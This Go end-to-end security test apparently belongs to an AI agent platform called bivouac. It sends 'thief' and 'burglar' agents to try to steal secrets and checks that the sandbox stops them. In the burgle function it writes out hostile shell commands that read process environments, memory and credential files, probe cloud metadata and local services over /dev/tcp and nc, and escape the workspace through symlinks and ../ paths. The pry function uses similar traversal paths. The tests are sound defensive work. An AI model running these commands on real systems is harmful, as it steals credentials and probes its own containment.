//go:build linux

package e2e

import (
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"bivouac/server/api/apiv1"
	"bivouac/test/e2e/stack"
)

// use has the thief call one tool in every mode, in one turn, and judges that the
// upstream showed what it was sent and that nobody saw it.
func (x *hostile) use(alias string) (turn string) {
	x.t.Helper()
	turn = x.submit("chat", "use "+alias, "--new", "--agent", "thief").ID
	var ended *apiv1.Turn
	await(x.t, "the end of the calls of "+alias, func() error {
		if ended = x.turn(turn); ended.GetEndedAt() == nil {
			return fmt.Errorf("it is %s with %d actions", ended.GetState(), len(ended.GetActions()))
		}
		return nil
	})
	if ended.GetState() != "COMPLETED" {
		x.t.Errorf("%s: turn %s is %s (%s): %s", alias, turn, ended.GetState(), ended.GetReason(), ended.GetMessage())
	}
	told := conversation(x.t, lastReceived(x.Stack).Body)
	if !strings.Contains(told, "done") {
		x.t.Errorf("%s never worked, so that it shows nothing: %.2000s", alias, told)
	}
	x.shown(alias, told)
	return turn
}

// shown: answers that carry the mode's name came through, and where they showed a
// secret the place is marked.
func (x *hostile) shown(alias, told string) {
	x.t.Helper()
	came, marked := 0, strings.Count(told, "[redacted]")
	for _, mode := range modesOf(alias) {
		if strings.Contains(told, "mode="+mode) {
			came++
		}
	}
	least := len(modesOf(alias)) / 3
	if came < least || alias != "take_cert" && marked < least {
		x.t.Errorf("%s: %d answers came through with %d marks: the upstream reflects less than it says\n%.3000s", alias, came, marked, told)
	}
	x.t.Logf("%s: %d modes asked for, %d answers came through, %d places marked", alias, len(modesOf(alias)), came, marked)
}

// doubt has calls end without an answer that can be read, until each was sent again,
// and gives them up.
func (x *hostile) doubt(alias string) (turns []string) {
	x.t.Helper()
	modes := map[string]string{}
	for _, mode := range doubtful {
		if others[mode] != nil || alias != "search" {
			id := x.submit("chat", "doubt "+alias+" "+mode, "--new", "--agent", "thief").ID
			turns, modes[id] = append(turns, id), mode
		}
	}
	for _, id := range turns {
		await(x.t, alias+" in doubt", func() error {
			n := x.mirror.times(alias, modes[id]) + x.gossip.times(modes[id])
			if n < 2 && (n == 0 || x.turn(id).GetEndedAt() == nil) {
				return fmt.Errorf("in mode %s it was asked for %d times", modes[id], n)
			}
			return nil
		})
		if x.turn(id).GetEndedAt() == nil {
			x.must("cancel", id)
		}
	}
	return turns
}

// burgle runs commands in a sandbox that look for credentials wherever code can.
func (x *hostile) burgle(began time.Time, e *stack.Edge) (turns []string) {
	x.t.Helper()
	files := []string{"broker/secret-id", "broker/role-id", "broker/keyring.key", "broker/keyring.age", "broker/broker.hcl", "broker/calls.log", "server/bivouac.db", "server/server.key",
		"secrets/scripted-key", "secrets/tickets-key", "secrets/token", "login/login.json", "logs/broker.log", "edge-" + e.Name + "/device.key", "edge-" + e.Name + "/edge.hcl"}
	var paths []string
	for _, f := range files {
		if _, err := os.Stat(x.Path(f)); err != nil {
			x.t.Errorf("there is nothing to steal at %s: %v", f, err)
		}
		paths = append(paths, x.Path(f))
	}
	paths = append(paths, x.record, x.server.AuditFile(), x.server.CAFile())
	at := addresses(x.t, x.Stack)
	doors := []string{"169.254.169.254:80", "127.0.0.1:80", strings.TrimPrefix(x.server.Address(), "https://"), at["--broker"], at["--public"], at["--runners"], at["--metrics"]}
	for _, u := range []string{x.mirror.open.URL, x.loot.URL, x.tokens.URL} {
		p, err := url.Parse(u)
		if err != nil {
			x.t.Fatal(err)
		}
		doors = append(doors, p.Host)
	}
	for what, command := range map[string]string{
		"environment": `env; for p in self 1 2 $PPID $(ls /proc | grep '^[0-9]'); do tr '\0' '\n' < /proc/$p/environ; tr '\0' ' ' < /proc/$p/cmdline; cat /proc/$p/mountinfo /proc/$p/maps; ls -l /proc/$p/fd /proc/$p/cwd /proc/$p/root; done 2>&1; echo looked-around`,
		"files":       "for f in " + strings.Join(paths, " ") + `; do echo "$f"; cat "$f"; for p in 1 self $PPID; do cat /proc/$p/root"$f" /proc/$p/cwd/../../../../.."$f"; done; ln -sf "$f" /workspace/link-$$; cat /workspace/link-$$; done 2>&1; rm -f /workspace/link-*; echo looked-around`,
		"addresses":   "for d in " + strings.Join(doors, " ") + `; do (exec 3<>/dev/tcp/${d%:*}/${d#*:} && echo "REA""CHED $d" && printf 'GET /latest/meta-data/iam/ HTTP/1.0\r\n\r\n' >&3 && head -c 2000 <&3) 2>&1 | head -c 3000; done; echo looked-around`,
		"sockets":     `for s in $(find / -xdev -type s 2>/dev/null) /run/*.sock ` + filepath.Join(e.State, "control.sock") + ` $(ls -d ` + filepath.Join(e.State, "attempts") + `/*/*.sock 2>/dev/null); do echo "socket $s"; (echo hello | timeout 2 nc -U "$s" | head -c 500) 2>&1; done; cat /proc/net/unix /proc/net/tcp 2>&1; echo looked-around`,
		"canaries":    look(began) + "; echo looked-around",
		"memory":      `for p in $(ls /proc | grep '^[0-9]'); do head -c 100 /proc/$p/mem; dd if=/proc/$p/mem bs=4096 skip=1024 count=1; done 2>&1 | tail -n 20; cat /proc/kcore /dev/mem /dev/kmem 2>&1 | head -c 200; dmesg 2>&1 | tail -n 5; ulimit -c unlimited; sh -c 'kill -SEGV $$'; find / -xdev -name 'core*' -type f -size -100000k 2>/dev/null | grep -v '/usr/' | head; echo looked-around`,
	} {
		dir := x.project("burgled-"+what, map[string]string{"a": "a\n"})
		turn := x.completed(x.submit("run", "run: bash -c '"+strings.ReplaceAll(command, "'", `'\''`)+"'", "--agent", "burglar", "--workspace", dir).ID)
		turns = append(turns, turn.GetId())
		said := conversation(x.t, lastReceived(x.Stack).Body)
		x.evidence.note("output of sandboxes", []byte(said))
		if !strings.Contains(said, "looked-around") {
			x.t.Errorf("%s: the command did not come to its end: %.1500s", what, said)
		}
		if strings.Contains(said, "REACHED") {
			x.t.Errorf("%s: a sandbox reached %.500s", what, said[strings.Index(said, "REACHED"):])
		}
	}
	return turns
}

// pry asks a machine for files beside its folder, by paths and by links in it.
func (x *hostile) pry(notes string) (turns []string) {
	x.t.Helper()
	paths := []string{"notes/a", "notes/link", "notes/folder/secret-id", "notes/../../broker/secret-id", "notes/" + strings.Repeat("../", 12) + "proc/self/environ", "/proc/self/environ", x.Path("broker", "secret-id")}
	for name, to := range map[string]string{"link": x.Path("broker", "secret-id"), "folder": x.Path("broker")} {
		if err := os.Symlink(to, filepath.Join(notes, name)); err != nil {
			x.t.Fatal(err)
		}
	}
	for i, path := range paths {
		turn := x.completed(x.submit("chat", "read "+path, "--new", "--agent", "thief").ID)
		turns = append(turns, turn.GetId())
		if rightful := strings.Contains(turn.GetAnswer(), "a-note"); rightful != (i == 0) {
			x.t.Errorf("read %s: %q", path, turn.GetAnswer())
		}
	}
	return slices.Clip(turns)
}
